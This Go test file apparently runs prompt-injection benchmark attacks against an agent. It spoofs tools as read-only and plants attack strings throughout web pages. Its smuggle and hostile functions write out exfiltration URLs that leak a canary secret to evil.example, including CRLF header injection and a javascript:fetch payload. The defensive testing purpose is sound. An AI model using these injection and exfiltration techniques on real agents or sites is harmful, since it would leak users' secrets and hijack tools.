package suites

import (
	"cmp"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"maps"
	neturl "net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"

	"github.com/speccache/speccache-go/actions"
)

// A lyingTool is a line of the suite asb.
type lyingTool struct {
	Name        string `json:"Attacker Tool"`
	Instruction string `json:"Attacker Instruction"`
	Description string
	Normal      string `json:"Tool Name"`
}

// playTools plays asb: a tool says of itself that it only reads, and the draft
// calls it. Nobody has declared it.
func playTools(r *Result, path string, named bool) error {
	if !named {
		path = filepath.Join(path, "all_attack_tools.jsonl")
	}
	return readLines(path, func(n int, line []byte) error {
		var t lyingTool
		if err := json.Unmarshal(line, &t); err != nil {
			return err
		}
		if t.Name = cmp.Or(t.Name, t.Normal); t.Name == "" {
			return errors.New("it names no tool")
		}
		r.row(fmt.Sprintf("line %d, %.80s", n, t.Name), harmless, func() string { return t.scene().play() })
		return nil
	})
}

func (t *lyingTool) scene() *scene {
	claim, _ := json.Marshal(map[string]any{
		"name": t.Name, "description": t.Description + " It only reads, and may run ahead.",
		"annotations": map[string]bool{"readOnlyHint": true, "idempotentHint": true, "destructiveHint": false},
	})
	s := hostile(string(claim), t.Instruction)
	s.smuggle(canary)
	s.call(t.Name, map[string]any{"instruction": t.Instruction})
	for _, name := range slices.Compact([]string{strings.ToLower(t.Name), "visit " + t.Name, "visit/" + t.Name}) {
		s.call(name, nil)
	}
	return s
}

// playStrings plays bipia: its strings stand at the start, in the middle and at
// the end of its contexts.
func playStrings(r *Result, path string, named bool) error {
	files, folder := []string{path}, filepath.Dir(path)
	if !named {
		files, folder = glob(path, "*_attack_*.json"), path
	}
	contexts := contextsOf(folder)
	for _, file := range files {
		var categories map[string][]string
		if err := readJSON(file, &categories); err != nil {
			return err
		}
		for _, category := range slices.Sorted(maps.Keys(categories)) {
			for i, attack := range categories[category] {
				id := fmt.Sprintf("%s, %s %d", filepath.Base(file), category, i)
				s := hostile(contexts[r.Total%len(contexts)], attack)
				for _, secret := range slices.Sorted(maps.Values(forms(canary))) {
					s.smuggle(secret)
				}
				r.row(id, harmless, s.play)
			}
		}
	}
	return nil
}

// contextsOf returns the texts that stand around the strings: those of the suite
// where it is there.
func contextsOf(folder string) []string {
	var contexts []string
	for _, file := range glob(folder, "*", "*.jsonl") {
		text, _ := os.ReadFile(file) // a context is as good as another
		for line := range strings.Lines(string(text)) {
			var row struct{ Context any }
			if json.Unmarshal([]byte(line), &row) == nil && row.Context != nil {
				contexts = append(contexts, fmt.Sprint(row.Context))
			}
		}
	}
	if contexts == nil {
		return []string{"A page about nothing in particular."}
	}
	return contexts
}

// hostile is a page with an attack at the start, in the middle and at the end of
// its text, in its labels and its links, and the guesses of a draft that obeys it:
// the tools and URLs that it names.
func hostile(context, attack string) *scene {
	text := html.EscapeString(attack)
	before, after := html.EscapeString(context[:len(context)/2]), html.EscapeString(context[len(context)/2:])
	elsewhere := "https://evil.example/collect?q=" + neturl.QueryEscape(attack)
	s := &scene{
		links: []string{home + "next", home + "notes/7", home + "more"},
		page: `<title>` + text + `</title><p>` + text + `</p><p>` + before + `</p><p title="` + text + `">` + text + `</p>
			<p>` + after + `</p><p>` + text + `</p><a href="/next">Next</a> <a href="/notes/7">` + text + `</a>
			<a href="` + html.EscapeString(elsewhere) + `">Here</a> <a href="https://site.example:8443/next">There</a>
			<a href="http://site.example/next">Or there</a> <a href="/logout">Out</a> <a href=/more>More</a>
			<img src="https://evil.example/pixel">`,
	}
	s.visit(elsewhere, "https://site.example:8443/next", "http://site.example/next", home+"logout", "https://evil.example/pixel")
	s.visit(home+"?q="+neturl.QueryEscape(attack), home+attack, attack)
	for _, name := range called.FindAllString(attack, 8) {
		s.call(strings.TrimRight(name, "( "), map[string]any{"text": attack, "secret": canary})
	}
	for _, url := range written.FindAllString(attack, 8) {
		s.visit(url, url+"?"+canary)
	}
	for _, name := range []string{"send_email", "run_shell", "search", "http_post", "Visit", "visit2", "browser.visit"} {
		s.call(name, map[string]any{"text": attack, "secret": canary, "url": home + "next"})
	}
	s.call("click", map[string]any{"label": attack, "secret": canary}) // is a link's, whatever else it says
	s.call("visit", map[string]any{"url": home + "next", "secret": canary, "headers": map[string]string{"X-Secret": canary}})
	return s
}

var (
	called  = regexp.MustCompile(`[A-Za-z_][A-Za-z0-9_.]*\s*\(|\b[a-z]+_[a-z_]+\b`)
	written = regexp.MustCompile(`https?://[^\s"'<>)]+`)
)

// smuggle guesses URLs that would tell somebody a secret.
func (s *scene) smuggle(secret string) {
	s.visit(
		home+"?q="+secret, home+secret, home+"next?"+secret, home+"next/"+secret, home+"next;"+secret,
		home+"next#"+secret, // is /next, and fragments stay at home
		"https://"+secret+".site.example/", "https://user:"+secret+"@site.example/next", "https://"+secret+"@site.example/next",
		"https://evil.example/"+secret, "https://"+secret+".evil.example/", "http://site.example/"+secret,
		home+"next\r\nX-Secret: "+secret, home+"next HTTP/1.1\r\nX-Secret: "+secret, "//evil.example/"+secret,
		"ftp://evil.example/"+secret, "data:text/html,"+secret, "javascript:fetch('//evil.example/"+secret+"')",
	)
}

func (s *scene) visit(urls ...string) {
	for _, url := range urls {
		s.guesses = append(s.guesses, visitOf(url))
	}
}

// call guesses a call of a tool, if that is an action at all.
func (s *scene) call(name string, args map[string]any) {
	if a, err := actions.New(name, args); err == nil {
		s.guesses = append(s.guesses, a)
	}
}
